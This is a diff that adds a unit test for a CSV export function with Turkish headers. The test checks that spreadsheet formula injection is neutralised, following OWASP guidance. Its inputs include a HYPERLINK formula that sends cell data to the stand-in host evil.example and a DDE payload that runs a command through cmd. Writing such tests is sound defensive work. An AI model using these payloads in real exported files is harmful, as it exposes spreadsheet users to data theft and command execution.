@@ -56,4 +56,20 @@ describe('toCsv', () => {
     expect(csvField('')).toBe('');
     expect(csvField('"')).toBe('""""');
   });
+
+  it('neutralises formulas (OWASP): = + - @ TAB CR at the start get a leading quote and are quoted; numbers stay numbers', () => {
+    const text = toCsv(
+      ['Firma', 'İl', 'İlçe', 'Not', 'Bakiye', 'Gün'],
+      [
+        ['=HYPERLINK("http://evil.example/?x="&A1,"Tıkla")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '\t=1+2', '-1.234,56', '+5'],
+        ['-2+3', '\r=1', 'Düz; ad', '', '-0,05', '12'],
+      ],
+    );
+    expect(text).toBe(
+      '\uFEFFFirma;İl;İlçe;Not;Bakiye;Gün\r\n' +
+        // each would have run as a formula: now text that starts with '
+        '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Tıkla"")";"\'+cmd|\' /C calc\'!A0";"\'@SUM(1+1)";"\'\t=1+2";-1.234,56;+5\r\n' +
+        '"\'-2+3";"\'\r=1";"Düz; ad";;-0,05;12\r\n',
+    );
+  });
 });
